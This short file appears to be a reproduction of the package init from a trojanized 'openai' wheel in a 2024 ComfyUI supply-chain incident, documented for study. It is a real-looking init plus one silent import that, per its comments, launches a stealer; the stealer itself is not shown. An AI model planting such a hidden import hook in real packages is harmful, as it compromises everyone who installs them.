# Incident: ComfyUI_LLMVISION (June 2024): the trojanized wheel's package init; identical to the
# real openai package except for the one import that starts the stealer.
# Reference: https://github.com/AppleBotzz/ComfyUI_LLMVISION/issues/6
# Reproduction (own code, placeholder host).
from . import _OAI  # noqa: F401
from ._client import AsyncOpenAI, OpenAI
from ._version import __version__

__all__ = ["OpenAI", "AsyncOpenAI", "__version__"]
